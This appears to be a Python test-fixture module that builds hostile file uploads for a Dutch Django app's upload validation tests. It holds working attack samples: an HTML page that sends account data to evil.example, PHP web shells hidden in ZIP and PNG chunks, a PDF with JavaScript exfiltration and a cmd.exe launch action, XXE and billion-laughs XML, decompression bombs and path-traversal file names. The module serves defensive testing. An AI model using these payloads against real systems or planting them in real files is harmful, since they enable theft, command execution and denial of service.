"""Hostile uploads, made in code (no binary fixtures in git).

Each `Case` is one small named file and what the app must do with it:

- ``ACCEPT``: a photo is taken in but stored re-encoded (a fresh JPEG, no metadata, nothing
  appended); a PDF or a bank statement is taken in as it is.
- ``REFUSE``: nothing is stored and the page says why, in Dutch: ``message`` is a phrase of the
  Dutch text the user must see.

`IMAGES` go to both photo uploads (incident report, person photo), `PDFS` to both dossier uploads
(certificate, dossier step), `STATEMENTS` to the bank statement import. Files of tens of MB are
never held here: a case with ``size`` is written as a sparse file by `Case.write` (its head, then
zeros up to ``size``), so it costs neither memory nor disk until a test reads it.

File names are sent as the browser sends them (see `multipart`), byte for byte: the test client's
own encoder would strip a path from the name before the app ever saw it.
"""

from __future__ import annotations

import io
import struct
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from PIL import Image, ImageDraw

from tests.incidents.factories import cctv_still

ACCEPT = "accept"
REFUSE = "refuse"

MB = 1024 * 1024

# Dutch phrases of the app's messages (locale/nl/LC_MESSAGES/django.po).
NOT_A_PHOTO = "Dit bestand is geen foto. Gebruik een JPEG-, PNG- of WebP-afbeelding."
DAMAGED_PHOTO = "Deze foto is beschadigd of onvolledig en kan niet worden gelezen."
EMPTY_PHOTO = "Dit bestand is leeg."
PHOTO_TOO_LARGE = "Deze foto is groter dan 15 MB."
TOO_MANY_PIXELS = "Deze foto heeft meer dan 40 megapixels."
NOT_A_PDF = "Upload het document als pdf."
PDF_TOO_LARGE = "Het document is groter dan 20 MB."
EMPTY_UPLOAD = "Het verstuurde bestand is leeg."  # Django's own FileField message
NOT_CAMT053 = "Dit bestand is geen CAMT.053-bankafschrift."
STATEMENT_TOO_LARGE = "Het bestand is groter dan 10 MB"

STATEMENT_IBAN = "NL91ABNA0417164300"


@dataclass(frozen=True)
class Case:
    id: str
    filename: str  # as the browser sends it: may hold a path, control characters, anything
    content_type: str
    expect: str  # ACCEPT or REFUSE
    why: str
    build: Callable[[], bytes] | None = None  # small files
    message: str = ""  # REFUSE: Dutch text the page must show
    size: int = 0  # large files: head, then zeros up to this many bytes (see `write`)
    head: bytes = b""

    def data(self) -> bytes:
        """The file's bytes (small cases only: a large case is `write`n to disk)."""
        if self.size:
            raise ValueError(f"{self.id} is {self.size} bytes: use write()")
        return self.build()

    def write(self, directory: Path) -> Path:
        """The file on disk; a large one sparse, so its zeros take no space."""
        path = Path(directory) / f"{self.id}.upload"
        with path.open("wb") as handle:
            if self.size:
                handle.write(self.head)
                handle.truncate(self.size)
            else:
                handle.write(self.build())
        return path

    def __str__(self) -> str:
        return self.id


# --- images ------------------------------------------------------------------------------------


def _save(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


@cache
def still_jpeg() -> bytes:
    return cctv_still(seed=11)


@cache
def still_png() -> bytes:
    return cctv_still(seed=12, fmt="PNG")


def exif_with_gps() -> Image.Exif:
    """What a phone writes: where the photo was taken, and that it was held sideways."""
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to display
    exif[0x010F] = "Camera Maker"  # Make
    exif[0x0131] = "Hostile Firmware 1.0"  # Software
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (52.0, 15.0, 30.0)  # Deventer, Brink
    gps[3] = "E"
    gps[4] = (6.0, 9.0, 40.0)
    return exif


def jpeg_with_exif_gps() -> bytes:
    return cctv_still(seed=13, exif=exif_with_gps())


def jpeg_with_comment_and_xmp() -> bytes:
    """A JPEG whose comment is a script and whose XMP packet holds a GPS position."""
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        b'exif:GPSLatitude="52,15.5N" exif:GPSLongitude="6,9.6E"/></rdf:RDF></x:xmpmeta>'
    )
    image = Image.open(io.BytesIO(still_jpeg()))
    return _save(image, "JPEG", comment=b"<script>alert(document.cookie)</script>", xmp=xmp)


def jpeg_then(tail: bytes) -> bytes:
    return still_jpeg() + tail


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>Inloggen</title></head><body>"
        b"<script>fetch('/accounts/email/').then(r=>r.text()).then(t=>new Image().src="
        b"'https://evil.example/?'+encodeURIComponent(t))</script></body></html>"
    )


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("shell.php", "<?php system($_GET['c']); ?>")
        archive.writestr("index.html", html_page())
    return buffer.getvalue()


def gif_javascript_polyglot() -> bytes:
    """Both a GIF and a script: the width bytes open a JS comment that the tail closes.

    ``GIF89a/*...*/=1;alert(1)//`` parses as ``GIF89a /*…*/ = 1; alert(1)`` in JavaScript.
    """
    gif = _save(Image.new("P", (4, 4), 1), "GIF")
    assert gif[:6] == b"GIF89a" or gif[:6] == b"GIF87a"
    return b"GIF89a" + b"/*" + gif[8:] + b"*/=1;alert(document.domain);//"


def jpeg_magic_then_pdf() -> bytes:
    return b"\xff\xd8\xff" + minimal_pdf(javascript=True)


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" '
        b'height="480" onload="alert(1)"><script>alert(document.domain)</script>'
        b'<rect width="640" height="480" fill="grey"/></svg>'
    )


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_from_rows(width: int, height: int, bit_depth: int, colour: int, row: Callable) -> bytes:
    """A PNG written by hand: ``row(y)`` gives row y's raw bytes (the filter byte comes first).

    The rows go through one zlib stream a block at a time, so a picture of a billion pixels
    never exists in memory, only its few kilobytes of compressed zeros.
    """
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    compressor = zlib.compressobj(9)
    parts = []
    block: list[bytes] = []
    for y in range(height):
        block.append(b"\0" + row(y))
        if len(block) == 256:
            parts.append(compressor.compress(b"".join(block)))
            block = []
    parts.append(compressor.compress(b"".join(block)))
    parts.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"".join(parts))
        + png_chunk(b"IEND", b"")
    )


@cache
def png_bomb(width: int, height: int) -> bytes:
    """A black 1-bit PNG of width by height pixels, every row present; 100 MP is ~12 KB."""
    zeros = b"\0" * ((width + 7) // 8)
    return png_from_rows(width, height, 1, 0, lambda y: zeros)


def png_16bit_rgb() -> bytes:
    """48 bits a pixel: a scanner or a photo editor's export. Pillow cannot write it: by hand."""
    width, height = 320, 240

    def row(y):
        return b"".join(
            struct.pack(">HHH", x * 200, y * 270, 40000) for x in range(width)
        )  # a colour gradient

    return png_from_rows(width, height, 16, 2, row)


def png_16bit_grey() -> bytes:
    image = Image.new("I;16", (320, 240))
    image.putdata([(x * 200 + y * 10) % 65536 for y in range(240) for x in range(320)])
    return _save(image, "PNG")


def png_with_php_chunk() -> bytes:
    """A PNG carrying a PHP web shell in a text chunk and after its end."""
    png = still_png()
    end = png.rindex(b"IEND") - 4
    text = png_chunk(b"tEXt", b"Comment\0<?php system($_GET['c']); ?>")
    return png[:end] + text + png[end:] + b"<?php echo 'owned'; ?>"


@cache
def zlib_bomb(megabytes: int) -> bytes:
    """``megabytes`` MB of zeros, deflated to about a thousandth of that."""
    compressor = zlib.compressobj(9)
    zeros = b"\0" * MB
    return b"".join(compressor.compress(zeros) for _ in range(megabytes)) + compressor.flush()


def png_with_chunk_before_pixels(kind: bytes, data: bytes) -> bytes:
    png = still_png()
    idat = png.index(b"IDAT") - 4
    return png[:idat] + png_chunk(kind, data) + png[idat:]


def jpeg_with_exif_loop() -> bytes:
    """An EXIF block whose sub-IFD points back at itself (a parser without a guard never ends)."""
    ifd = struct.pack(">H", 1) + struct.pack(">HHII", 0x8769, 4, 1, 8) + struct.pack(">I", 8)
    tiff = b"Exif\0\0MM\x00\x2a\x00\x00\x00\x08" + ifd
    jpeg = still_jpeg()
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(tiff) + 2) + tiff + jpeg[2:]


def cmyk_jpeg() -> bytes:
    image = Image.new("CMYK", (400, 300), (0, 40, 80, 10))
    ImageDraw.Draw(image).rectangle([100, 80, 300, 220], fill=(200, 0, 0, 30))
    return _save(image, "JPEG", quality=90)


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) claims width by height pixels."""
    data = bytearray(_save(Image.new("RGB", (16, 16), (90, 95, 100)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def animated_gif(frames: int) -> bytes:
    images = _frames(frames, (32, 32))
    return _save(images[0], "GIF", save_all=True, append_images=images[1:], duration=10, loop=0)


def _frames(count: int, size=(64, 48)) -> list[Image.Image]:
    return [Image.new("RGB", size, (i % 256, (i * 7) % 256, 90)) for i in range(count)]


def animated_png(frames: int) -> bytes:
    images = _frames(frames)
    return _save(images[0], "PNG", save_all=True, append_images=images[1:], duration=10)


def animated_webp(frames: int) -> bytes:
    images = _frames(frames)
    return _save(images[0], "WEBP", save_all=True, append_images=images[1:], duration=10)


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


JPEG = "image/jpeg"

IMAGES = [
    # --- photos that are legitimate, or hostile only in their wrapping: accepted, re-encoded
    Case(
        "jpeg-exif-gps-orientation",
        "IMG_4021.JPG",
        JPEG,
        ACCEPT,
        "phone photo: GPS must go, the EXIF rotation must be applied first",
        jpeg_with_exif_gps,
    ),
    Case(
        "jpeg-script-comment-and-xmp-gps",
        "IMG_4022.jpg",
        JPEG,
        ACCEPT,
        "comment and XMP are metadata too: neither may survive",
        jpeg_with_comment_and_xmp,
    ),
    Case(
        "jpeg-with-html-appended",
        "still.jpg",
        JPEG,
        ACCEPT,
        "an HTML page after the JPEG's end marker",
        lambda: jpeg_then(html_page()),
    ),
    Case(
        "jpeg-with-zip-appended",
        "still.jpg",
        JPEG,
        ACCEPT,
        "a ZIP (web shell inside) after the end marker: a JPEG/ZIP polyglot",
        lambda: jpeg_then(zip_archive()),
    ),
    Case(
        "png-named-jpg",
        "schermafbeelding.jpg",
        JPEG,
        ACCEPT,
        "wrong extension, real picture: decoded by content, stored as JPEG",
        still_png,
    ),
    Case(
        "jpeg-named-exe",
        "still.exe",
        "application/x-msdownload",
        ACCEPT,
        "the name and type lie, the content is a photo: stored as a .jpg",
        still_jpeg,
    ),
    Case(
        "jpeg-named-php",
        "still.php",
        "application/x-php",
        ACCEPT,
        "a .php name must never become a .php file in storage",
        still_jpeg,
    ),
    Case(
        "png-php-webshell-named-php",
        "shell.php",
        "application/x-php",
        ACCEPT,
        "PHP code in a tEXt chunk and after IEND: the picture is kept, the code is not",
        png_with_php_chunk,
    ),
    Case(
        "jpeg-exif-ifd-loop",
        "IMG_4023.jpg",
        JPEG,
        ACCEPT,
        "broken metadata on a good picture: the picture is kept, the metadata not",
        jpeg_with_exif_loop,
    ),
    Case(
        "cmyk-jpeg",
        "drukproef.jpg",
        JPEG,
        ACCEPT,
        "legitimate but unusual: four colour channels, stored as RGB",
        cmyk_jpeg,
    ),
    Case(
        "png-16bit-grey",
        "scan.png",
        "image/png",
        ACCEPT,
        "legitimate but unusual: 16 bits per grey pixel",
        png_16bit_grey,
    ),
    Case(
        "png-16bit-rgb",
        "scan-kleur.png",
        "image/png",
        ACCEPT,
        "legitimate but unusual: 48 bits per pixel",
        png_16bit_rgb,
    ),
    Case(
        "apng-300-frames",
        "animatie.png",
        "image/png",
        ACCEPT,
        "an animated PNG: the first frame is kept",
        lambda: animated_png(300),
    ),
    Case(
        "webp-animated-300-frames",
        "animatie.webp",
        "image/webp",
        ACCEPT,
        "an animated WebP: the first frame is kept",
        lambda: animated_webp(300),
    ),
    Case(
        "name-path-traversal",
        "../../etc/passwd.jpg",
        JPEG,
        ACCEPT,
        "the name never reaches the file system: stored under a random name",
        still_jpeg,
    ),
    Case(
        "name-windows-path-traversal",
        "..\\..\\..\\Windows\\win.ini.jpg",
        JPEG,
        ACCEPT,
        "backslashes, as a Windows browser of old sent the full path",
        still_jpeg,
    ),
    Case(
        "name-control-characters",
        "foto\x00.php\x1b[2J\x07\x7f\u202egpj.jpg",
        JPEG,
        ACCEPT,
        "NUL, terminal escape, bell, DEL and a right-to-left override in the name",
        still_jpeg,
    ),
    Case(
        "name-300-characters",
        "a" * 296 + ".jpg",
        JPEG,
        ACCEPT,
        "longer than any file system allows a name to be",
        still_jpeg,
    ),
    # --- not a photo, or not one the app may decode: refused
    Case(
        "gif-javascript-polyglot",
        "polyglot.gif",
        "image/gif",
        REFUSE,
        "a GIF that is also a script; GIF is not accepted at all",
        gif_javascript_polyglot,
        NOT_A_PHOTO,
    ),
    Case(
        "gif-animated-500-frames",
        "animatie.gif",
        "image/gif",
        REFUSE,
        "GIF is not one of the accepted formats",
        lambda: animated_gif(500),
        NOT_A_PHOTO,
    ),
    Case(
        "jpeg-magic-then-pdf",
        "document.jpg",
        JPEG,
        REFUSE,
        "JPEG signature, then a PDF with JavaScript",
        jpeg_magic_then_pdf,
        NOT_A_PHOTO,
    ),
    Case(
        "svg-script-named-jpg",
        "foto.jpg",
        JPEG,
        REFUSE,
        "an SVG with script, claiming to be a JPEG",
        svg_with_script,
        NOT_A_PHOTO,
    ),
    Case(
        "html-named-jpg",
        "foto.jpg",
        JPEG,
        REFUSE,
        "a page with a script that would read the user's account page",
        html_page,
        NOT_A_PHOTO,
    ),
    Case(
        "html-name-in-message",
        '<img src=x onerror="alert(1)">.jpg',
        JPEG,
        REFUSE,
        "the refusal repeats the name: it must be shown escaped",
        html_page,
        NOT_A_PHOTO,
    ),
    Case(
        "png-bomb-30000x30000",
        "bom.png",
        "image/png",
        REFUSE,
        "900 MP declared, ~110 KB on disk: refused from the header, before decoding",
        lambda: png_bomb(30_000, 30_000),
        TOO_MANY_PIXELS,
    ),
    Case(
        "png-bomb-100mp",
        "bom.png",
        "image/png",
        REFUSE,
        "100 MP in 12 KB: below Pillow's own error limit, above the app's",
        lambda: png_bomb(10_000, 10_000),
        TOO_MANY_PIXELS,
    ),
    Case(
        "jpeg-declares-65000x65000",
        "groot.jpg",
        JPEG,
        REFUSE,
        "a JPEG header claiming 4 gigapixels",
        lambda: jpeg_declaring(65_000, 65_000),
        TOO_MANY_PIXELS,
    ),
    Case(
        "jpeg-declares-50mp",
        "groot.jpg",
        JPEG,
        REFUSE,
        "50 MP: no Pillow warning at all, only the app's own limit stops it",
        lambda: jpeg_declaring(10_000, 5_000),
        TOO_MANY_PIXELS,
    ),
    Case(
        "png-ztxt-bomb",
        "bom.png",
        "image/png",
        REFUSE,
        "a text chunk that inflates to 100 MB",
        lambda: png_with_chunk_before_pixels(b"zTXt", b"Comment\0\0" + zlib_bomb(100)),
        DAMAGED_PHOTO,
    ),
    Case(
        "png-iccp-bomb",
        "bom.png",
        "image/png",
        REFUSE,
        "a colour profile that inflates to 100 MB",
        lambda: png_with_chunk_before_pixels(b"iCCP", b"sRGB\0\0" + zlib_bomb(100)),
        DAMAGED_PHOTO,
    ),
    Case(
        "jpeg-truncated",
        "afgebroken.jpg",
        JPEG,
        REFUSE,
        "half a JPEG: must not be stored as if whole",
        lambda: half(still_jpeg()),
        DAMAGED_PHOTO,
    ),
    Case(
        "png-truncated",
        "afgebroken.png",
        "image/png",
        REFUSE,
        "half a PNG",
        lambda: half(still_png()),
        DAMAGED_PHOTO,
    ),
    Case(
        "jpeg-header-only",
        "kapot.jpg",
        JPEG,
        REFUSE,
        "a JPEG signature and nothing after it",
        lambda: still_jpeg()[:20],
        NOT_A_PHOTO,
    ),
    Case("empty", "leeg.jpg", JPEG, REFUSE, "zero bytes", lambda: b"", EMPTY_PHOTO),
    Case(
        "jpeg-50mb",
        "groot.jpg",
        JPEG,
        REFUSE,
        "50 MB: refused by its size, never read",
        message=PHOTO_TOO_LARGE,
        size=50 * MB,
        head=b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    ),
]


# --- PDFs ---------------------------------------------------------------------------------------


def minimal_pdf(*, javascript: bool = False, text: str = "Schouwrapport Binnenstad") -> bytes:
    """A small, well-formed one-page PDF (with a correct cross-reference table).

    ``javascript`` adds what a hostile PDF carries: a JavaScript action run on opening, another
    on closing the page, and a launch action.
    """
    catalog = "<< /Type /Catalog /Pages 2 0 R"
    if javascript:
        catalog += " /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >>"
    objects = [
        catalog + " >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        "/Resources << /Font << /F1 6 0 R >> >>"
        + (" /AA << /C 7 0 R >>" if javascript else "")
        + " >>",
    ]
    stream = f"BT /F1 18 Tf 72 760 Td ({text}) Tj ET"
    objects.append(f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream")
    objects.append(
        "<< /Type /Action /S /JavaScript /JS (app.alert\\('hostile'\\); "
        "this.submitForm\\('https://evil.example/'\\);) >>"
        if javascript
        else "<< >>"
    )
    objects.append("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    if javascript:
        objects.append("<< /Type /Action /S /Launch /F (cmd.exe) >>")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    out += trailer.encode()
    return bytes(out)


PDF = "application/pdf"

PDFS = [
    Case(
        "pdf-plain",
        "schouw.pdf",
        PDF,
        ACCEPT,
        "control: a well-formed report",
        minimal_pdf,
    ),
    Case(
        "pdf-javascript-openaction",
        "schouw.pdf",
        PDF,
        ACCEPT,
        "kept byte for byte and served only as a download (see the test's docstring)",
        lambda: minimal_pdf(javascript=True),
    ),
    Case(
        "pdf-header-then-html",
        "schouw.pdf",
        PDF,
        ACCEPT,
        "a PDF signature before an HTML page: never served as HTML (type fixed, nosniff)",
        lambda: b"%PDF-1.4\n" + html_page(),
    ),
    Case(
        "pdf-truncated",
        "schouw.pdf",
        PDF,
        ACCEPT,
        "half a PDF: the reader says it is damaged; harmless, and not decoded by the app",
        lambda: half(minimal_pdf()),
    ),
    Case(
        "pdf-name-path-traversal",
        "../../../../etc/cron.d/schouw.pdf",
        PDF,
        ACCEPT,
        "stored under a random name in the dossier folder",
        minimal_pdf,
    ),
    Case(
        "pdf-name-control-characters",
        "sch\x00ouw\x1b[31m\u202efdp.exe" + "x" * 300 + ".pdf",
        PDF,
        ACCEPT,
        "NUL, escape codes, a right-to-left override and 300+ characters",
        minimal_pdf,
    ),
    Case(
        "jpeg-named-pdf",
        "schouw.pdf",
        PDF,
        REFUSE,
        "a photo of the report is no PDF",
        still_jpeg,
        NOT_A_PDF,
    ),
    Case(
        "html-named-pdf",
        "schouw.pdf",
        PDF,
        REFUSE,
        "HTML with script, named and typed as a PDF",
        html_page,
        NOT_A_PDF,
    ),
    Case(
        "pdf-after-1-kb-of-junk",
        "schouw.pdf",
        PDF,
        REFUSE,
        "readers find a PDF signature anywhere in the first KB; the app wants it first",
        lambda: b"<html>" + b" " * 1100 + minimal_pdf(),
        NOT_A_PDF,
    ),
    Case(
        "pdf-empty",
        "schouw.pdf",
        PDF,
        REFUSE,
        "zero bytes",
        lambda: b"",
        EMPTY_UPLOAD,
    ),
    Case(
        "pdf-50mb",
        "groot.pdf",
        PDF,
        REFUSE,
        "50 MB: refused by its size",
        message=PDF_TOO_LARGE,
        size=50 * MB,
        head=b"%PDF-1.7\n",
    ),
]


# --- bank statements (CAMT.053) ------------------------------------------------------------------


def camt053(payments: int = 1, *, prolog: str = "", name: str = "K. Bakker") -> bytes:
    """A well-formed statement of `STATEMENT_IBAN` with ``payments`` incoming transfers.

    Every call has fresh bank references, so the same statement is never a duplicate import.
    ``prolog`` goes between the XML declaration and the root (a DOCTYPE, say); ``name`` is the
    payer's name as XML text (an entity reference, say).
    """
    stamp = uuid.uuid4().hex[:12]
    entries = "".join(
        f"""
      <Ntry>
        <Amt Ccy="EUR">181.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>
        <BookgDt><Dt>2026-01-05</Dt></BookgDt><AcctSvcrRef>{stamp}-{i}</AcctSvcrRef>
        <NtryDtls><TxDtls><RltdPties><Dbtr><Nm>{name}</Nm></Dbtr>
        <DbtrAcct><Id><IBAN>NL69INGB0123456789</IBAN></Id></DbtrAcct></RltdPties>
        <RmtInf><Ustrd>schadeclaim onbekend</Ustrd></RmtInf></TxDtls></NtryDtls>
      </Ntry>"""
        for i in range(payments)
    )
    return f"""<?xml version="1.0" encoding="UTF-8"?>{prolog}
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">
  <BkToCstmrStmt>
    <GrpHdr><MsgId>{stamp}</MsgId><CreDtTm>2026-01-06T07:00:00</CreDtTm></GrpHdr>
    <Stmt><Id>{stamp}</Id>
      <Acct><Id><IBAN>{STATEMENT_IBAN}</IBAN></Id><Ccy>EUR</Ccy></Acct>{entries}
    </Stmt>
  </BkToCstmrStmt>
</Document>""".encode()


def billion_laughs() -> bytes:
    levels = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        levels.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    return camt053(prolog=f"\n<!DOCTYPE Document [\n{chr(10).join(levels)}\n]>", name="&lol9;")


def quadratic_blowup() -> bytes:
    """One 50 KB entity used 50,000 times: no nesting, still 2.5 GB of text."""
    return camt053(
        prolog=f'\n<!DOCTYPE Document [<!ENTITY a "{"a" * 50_000}">]>', name="&a;" * 50_000
    )


def external_entity() -> bytes:
    return camt053(
        prolog='\n<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', name="&x;"
    )


def external_dtd() -> bytes:
    """A DTD fetched from the network (an out-of-band XXE probe): nothing may be fetched."""
    return camt053(prolog='\n<!DOCTYPE Document SYSTEM "http://127.0.0.1:9/camt.dtd">')


def parameter_entity() -> bytes:
    return camt053(
        prolog=(
            '\n<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]>'
        )
    )


def harmless_dtd() -> bytes:
    """A DTD that declares nothing dangerous: refused all the same, any DTD is."""
    return camt053(prolog="\n<!DOCTYPE Document>")


def invalid_utf8_bytes() -> bytes:
    return camt053().replace(b"K. Bakker", b"K. Bakker \xff\xfe\xc3\x28 \xed\xa0\x80")


def deep_nesting() -> bytes:
    depth = 100_000
    return (
        b'<?xml version="1.0"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">'
        + b"<a>" * depth
        + b"</a>" * depth
        + b"</Document>"
    )


def declared_encoding(name: str) -> bytes:
    return camt053().replace(b'encoding="UTF-8"', f'encoding="{name}"'.encode(), 1)


XML = "text/xml"

STATEMENTS = [
    Case("camt-plain", "afschrift.xml", XML, ACCEPT, "control: one payment", camt053),
    Case(
        "camt-name-control-characters-300",
        "afschrift\x00\x1b[31m" + "x" * 300 + "/../../.xml",
        XML,
        ACCEPT,
        "the import keeps the file's name: stored printable and cut to 200 characters",
        camt053,
    ),
    Case(
        "camt-billion-laughs",
        "afschrift.xml",
        XML,
        REFUSE,
        "10^9 'lol's from a few hundred bytes",
        billion_laughs,
        NOT_CAMT053,
    ),
    Case(
        "camt-quadratic-blowup",
        "afschrift.xml",
        XML,
        REFUSE,
        "one 50 KB entity used 50,000 times: 2.5 GB of text without nesting",
        quadratic_blowup,
        NOT_CAMT053,
    ),
    Case(
        "camt-xxe-etc-passwd",
        "afschrift.xml",
        XML,
        REFUSE,
        "an external entity pointing at /etc/passwd",
        external_entity,
        NOT_CAMT053,
    ),
    Case(
        "camt-external-dtd",
        "afschrift.xml",
        XML,
        REFUSE,
        "an out-of-band XXE probe: the parser must fetch nothing",
        external_dtd,
        NOT_CAMT053,
    ),
    Case(
        "camt-parameter-entity",
        "afschrift.xml",
        XML,
        REFUSE,
        "a parameter entity loading a remote DTD",
        parameter_entity,
        NOT_CAMT053,
    ),
    Case(
        "camt-dtd",
        "afschrift.xml",
        XML,
        REFUSE,
        "a DTD declaring nothing: any DTD is refused, no bank sends one",
        harmless_dtd,
        NOT_CAMT053,
    ),
    Case(
        "camt-invalid-utf8",
        "afschrift.xml",
        XML,
        REFUSE,
        "bytes that are no UTF-8 in a file that says it is",
        invalid_utf8_bytes,
        NOT_CAMT053,
    ),
    *(
        Case(
            f"camt-encoding-{encoding}",
            "afschrift.xml",
            XML,
            REFUSE,
            "an encoding expat cannot read: unknown, multi-byte, or a codec that is no text",
            lambda encoding=encoding: declared_encoding(encoding),
            NOT_CAMT053,
        )
        for encoding in ("x-hostile-7", "utf-7", "utf-32", "rot13", "idna")
    ),
    Case(
        "camt-100000-deep",
        "afschrift.xml",
        XML,
        REFUSE,
        "nesting deep enough to break a recursive parser",
        deep_nesting,
        NOT_CAMT053,
    ),
    Case(
        "camt-html-named-xml",
        "afschrift.xml",
        XML,
        REFUSE,
        "a bank's login page saved instead of the statement",
        html_page,
        NOT_CAMT053,
    ),
    Case(
        "camt-empty",
        "afschrift.xml",
        XML,
        REFUSE,
        "zero bytes",
        lambda: b"",
        EMPTY_UPLOAD,
    ),
    Case(
        "camt-50mb",
        "afschrift.xml",
        XML,
        REFUSE,
        "50 MB: refused by its size",
        message=STATEMENT_TOO_LARGE,
        size=50 * MB,
        head=b'<?xml version="1.0" encoding="UTF-8"?>\n<Document>',
    ),
]


# --- sending them ------------------------------------------------------------------------------


def multipart(fields: dict, files: list[tuple[str, str, str, bytes]]) -> tuple[bytes, str]:
    """A multipart/form-data body as a browser sends it, and its content type.

    ``files``: (field, file name, content type, bytes). The name goes out as it is, path and
    control characters included; only ``"``, CR and LF are escaped, as the HTML standard tells
    browsers to. (The test client would send the base name only.)
    """
    boundary = f"----KVOAttack{uuid.uuid4().hex}"
    parts = []
    for key, values in fields.items():
        for value in values if isinstance(values, list | tuple) else [values]:
            parts.append(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'.encode()
                + str(value).encode()
                + b"\r\n"
            )
    for key, filename, content_type, data in files:
        escaped = filename.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"; '
            f'filename="{escaped}"\r\nContent-Type: {content_type}\r\n\r\n'.encode()
        )
        parts += [data, b"\r\n"]  # not concatenated: a 50 MB file is copied once, by the join
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"
